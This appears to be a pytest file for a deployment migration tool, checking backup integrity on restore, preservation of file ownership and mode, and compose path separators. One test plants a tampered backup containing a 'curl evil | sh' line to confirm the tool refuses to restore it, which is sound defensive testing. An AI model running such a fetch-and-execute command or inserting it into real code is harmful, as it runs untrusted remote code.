"""Backups and the file writer under an operator's faults (issue 14, item 8): a backup changed since it was taken
is never restored (the state intact, as without it), a rewrite keeps the file's owner, group and mode, and
COMPOSE_FILE is edited with the separator compose itself reads (COMPOSE_PATH_SEPARATOR)."""

import json
import os
import stat
from pathlib import Path

import pytest

from migrator.core.errors import BackupMismatch, ExitCode
from migrator.core.fileops import FileWriter
from migrator.core.ledger import Ledger
from migrator.files.compose_text import compose_file_value, compose_path_separator, without_vllm_compose
from migrator.files.envfile import EnvFile

OTHER_UID, OTHER_GID = 12345, 23456  # a deploy user that is not the one running the tool


def _writer(tmp_path):
    project = tmp_path / "p"
    project.mkdir(exist_ok=True)
    ledger = Ledger(project)
    return project, ledger, FileWriter(ledger)


# ---- a tampered backup -------------------------------------------------------------------------------
def test_a_backup_changed_since_it_was_taken_is_never_restored(tmp_path):
    project, ledger, writer = _writer(tmp_path)
    target = project / "config.py"
    target.write_bytes(b"original\n")
    writer.write(target, b"by the tool\n", "phase2.settings")
    backup = ledger.root / ledger.state["files"]["config.py"]["backup"]
    backup.write_bytes(b"import os; os.system('curl evil | sh')\n")
    with pytest.raises(BackupMismatch) as refused:
        writer.restore("config.py")
    line = refused.value.one_line()
    assert "\n" not in line and "config.py not restored" in line and "backups/config.py" in line
    assert "by hand" in line
    assert target.read_bytes() == b"by the tool\n"  # left as it was, not the tampered bytes
    assert not ledger.state["files"]["config.py"].get("released_at")  # still the tool's to answer for


def test_rollback_refuses_a_tampered_env_backup_rolls_back_in_place_and_goes_on(sandbox, cli):
    assert cli("--project", str(sandbox), "phase1", "--no-bench").exit_code == 0
    assert cli("--project", str(sandbox), "phase3").exit_code == 0
    ledger = Ledger(sandbox)
    ledger.load()
    record = ledger.state["files"]["docker/.env"]
    backup = ledger.root / record["backup"]
    tampered = backup.read_bytes() + b"LLM_BACKEND=vllm\nEVIL=1\n"
    backup.write_bytes(tampered)
    result = cli("--project", str(sandbox), "--json", "rollback", "--wait", "5")
    doc = json.loads(result.stdout)
    assert result.exit_code == ExitCode.CHECK_FAILED, doc
    actions = {a["name"]: a for a in doc["actions"]}
    env_action = actions["env file"]
    assert not env_action["ok"] and "docker/.env not restored" in env_action["result"]
    assert "sha256" in env_action["result"] and "by hand" in env_action["result"]
    env_bytes = (sandbox / "docker" / ".env").read_bytes()
    assert env_bytes != tampered and b"EVIL" not in env_bytes
    assert EnvFile.from_bytes(env_bytes).get("LLM_BACKEND") == "ollama"  # production back on Ollama anyway
    assert actions["stop vLLM"]["ok"] and "stopped" in actions["stop vLLM"]["result"]  # the other undos ran
    assert actions["backend answers"]["ok"]


# ---- owner, group and mode kept ------------------------------------------------------------------------
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")


@needs_root
def test_a_rewrite_keeps_the_files_owner_group_and_mode(tmp_path):
    project, ledger, writer = _writer(tmp_path)
    env = project / ".env"
    env.write_bytes(b"LLM_BACKEND=ollama\n")
    os.chown(env, OTHER_UID, OTHER_GID)
    os.chmod(env, 0o640)
    writer.write(env, b"LLM_BACKEND=vllm\n", "phase4.switch")
    st = env.stat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (OTHER_UID, OTHER_GID, 0o640)
    assert writer.restore(".env") == "restored from backup"
    st = env.stat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (OTHER_UID, OTHER_GID, 0o640)
    assert env.read_bytes() == b"LLM_BACKEND=ollama\n"


@needs_root
def test_rollback_puts_back_the_owner_and_mode_the_file_had_before_the_migration(tmp_path):
    """Written by an older version (the owner became root's, the mode changed): restored as it was."""
    project, ledger, writer = _writer(tmp_path)
    env = project / ".env"
    env.write_bytes(b"A=1\n")
    os.chown(env, OTHER_UID, OTHER_GID)
    os.chmod(env, 0o600)
    writer.write(env, b"A=2\n", "phase3.env")
    os.chown(env, 0, 0)
    os.chmod(env, 0o644)
    writer.restore(".env")
    st = env.stat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (OTHER_UID, OTHER_GID, 0o600)


@needs_root
def test_phase3_and_rollback_keep_a_deploy_users_private_env_file(sandbox, cli):
    env = sandbox / "docker" / ".env"
    os.chown(env, OTHER_UID, OTHER_GID)
    os.chmod(env, 0o600)
    before = env.read_bytes()
    assert cli("--project", str(sandbox), "phase1", "--no-bench").exit_code == 0
    assert cli("--project", str(sandbox), "phase3").exit_code == 0
    assert env.read_bytes() != before
    st = env.stat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (OTHER_UID, OTHER_GID, 0o600)
    assert cli("--project", str(sandbox), "rollback", "--wait", "5").exit_code == 0
    st = env.stat()
    assert env.read_bytes() == before
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (OTHER_UID, OTHER_GID, 0o600)


# ---- COMPOSE_PATH_SEPARATOR ------------------------------------------------------------------------------
@pytest.fixture
def no_separator_in_env(monkeypatch):
    monkeypatch.delenv("COMPOSE_PATH_SEPARATOR", raising=False)


def test_compose_file_is_edited_with_the_env_files_separator(no_separator_in_env):
    env = EnvFile.from_bytes(b"COMPOSE_PATH_SEPARATOR=;\nCOMPOSE_FILE=docker-compose.yml;docker-compose.gpu.yml\n")
    sep = compose_path_separator(env)
    assert sep == ";"
    root = Path("/srv/graphrag/docker")
    value = compose_file_value(env.get("COMPOSE_FILE"), [root / "docker-compose.yml"], root / "docker-compose.vllm.yml",
                               root, sep)
    assert value == "docker-compose.yml;docker-compose.gpu.yml;docker-compose.vllm.yml"
    back, dropped = without_vllm_compose(env.set("COMPOSE_FILE", value))
    assert dropped == "docker-compose.vllm.yml"
    assert back.get("COMPOSE_FILE") == "docker-compose.yml;docker-compose.gpu.yml"


def test_the_environments_separator_wins_over_the_env_files_as_in_compose(monkeypatch):
    monkeypatch.setenv("COMPOSE_PATH_SEPARATOR", ",")
    env = EnvFile.from_bytes(b"COMPOSE_PATH_SEPARATOR=;\nCOMPOSE_FILE=a.yml,docker-compose.vllm.yml\n")
    assert compose_path_separator(env) == ","
    back, dropped = without_vllm_compose(env)
    assert dropped and back.get("COMPOSE_FILE") == "a.yml"


def test_without_a_separator_setting_it_is_the_platforms(no_separator_in_env):
    env = EnvFile.from_bytes(b"COMPOSE_FILE=a.yml:docker-compose.vllm.yml\n")
    assert compose_path_separator(env) == os.pathsep == ":"
    assert without_vllm_compose(env)[0].get("COMPOSE_FILE") == "a.yml"


def test_phase3s_compose_env_step_appends_with_the_env_files_separator(tmp_path, no_separator_in_env):
    from migrator.adapters.runtime.docker import DockerVllm
    from migrator.core.config import Settings
    from migrator.core.engine import Context
    from migrator.core.ports import Wiring
    from phases.phase3 import ComposeFileInEnv

    project = tmp_path / "p"
    (project / "docker").mkdir(parents=True)
    env_path = project / "docker" / ".env"
    env_path.write_bytes(b"COMPOSE_PATH_SEPARATOR=;\nCOMPOSE_FILE=docker-compose.yml;gpu.yml\n")
    for name in ("docker-compose.yml", "gpu.yml"):  # COMPOSE_FILE's entries are judged as compose loads them
        (project / "docker" / name).write_text("services: {}\n")
    settings = Settings()
    settings.vllm.runtime = "docker"
    ctx = Context(project, settings, Ledger(project), wiring=Wiring(vllm=DockerVllm()))
    step = ComposeFileInEnv()
    written = step.files(ctx)[env_path]
    assert EnvFile.from_bytes(written).get("COMPOSE_FILE") == "docker-compose.yml;gpu.yml;docker-compose.vllm.yml"
    env_path.write_bytes(written)
    assert step.check(ctx).ok
